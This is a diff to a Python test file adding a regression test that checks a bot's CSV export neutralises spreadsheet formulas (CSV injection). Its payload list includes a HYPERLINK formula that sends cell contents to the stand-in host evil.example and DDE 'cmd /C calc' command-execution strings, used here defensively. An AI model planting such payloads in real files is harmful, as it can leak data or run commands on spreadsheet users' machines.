@@ -154,7 +154,7 @@ def test_csv_export_has_a_row_per_revision_and_keeps_projects_without_updates(ic
         "red",
         TRICKY,
         "Chase BT",
-        "=SUM(A1)",
+        "'=SUM(A1)",  # a formula typed as text stays text in a spreadsheet (OWASP: CSV injection)
     )
     assert second["update_created_at"] == "2026-11-24T09:30:00Z"
     assert second["revision_created_at"] == "2026-11-24T10:30:00Z"
@@ -168,6 +168,56 @@ def test_csv_export_has_a_row_per_revision_and_keeps_projects_without_updates(ic
     idle = table[1]
     assert idle["project_title"] == "Mobile carrier cut-across"
     assert all(idle[c] == "" for c in export.CSV_COLUMNS[export.CSV_COLUMNS.index("update_id") :])
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example?"&A1,"Click for details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula(ictbot, runtime, standin, clock):
+    """Hostile text in every user-written column (project title, service area, update texts): read back, each
+    cell is the text as typed (its bidi control gone) with a ' in front where a spreadsheet would compute it."""
+    with runtime.unit(standin.team_id) as (session, ws):
+        for i, formula in enumerate(FORMULAS):
+            project = projects.add(
+                session,
+                ws,
+                ref=f"X-{i:02d}",
+                title=formula,
+                priority="ARCH",
+                owner=OWNER,
+                service_area=formula,
+                now=clock.now,
+            )
+            text = UpdateText(Rag.RED, formula + "\u202e", next_steps=formula, risks="plain " + formula)
+            updates.post(
+                session, ws, project, user_id=OWNER, is_admin=True, text=text, source=UpdateSource.MODAL, now=clock.now
+            )
+
+    result = ictbot("export", "--format", "csv")
+
+    assert result.exit_code == 0, result.stderr
+    table = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert len(table) == len(FORMULAS)
+    hyperlink = table[0]
+    assert hyperlink["project_title"] == hyperlink["next_steps"] == "'" + FORMULAS[0]
+    assert hyperlink["progress"] == "'" + FORMULAS[0]  # the bidi control typed after it is gone
+    assert hyperlink["risks"] == "plain " + FORMULAS[0]  # a formula inside a cell is only text
+    for row, formula in zip(table, FORMULAS, strict=True):
+        for column in ("project_title", "service_area", "progress", "next_steps"):
+            cell = row[column]
+            # Nothing a spreadsheet would compute: a ' before whatever would start a formula.
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+            # And otherwise what was typed (trimmed where the bot trims it, a CR read as a line break).
+            typed = formula.replace("\r", "\n")
+            assert cell.removeprefix("'") in (typed, typed.strip()), (column, cell)
 
 
 def test_export_to_a_file_reports_what_it_wrote(ictbot, history, tmp_path):
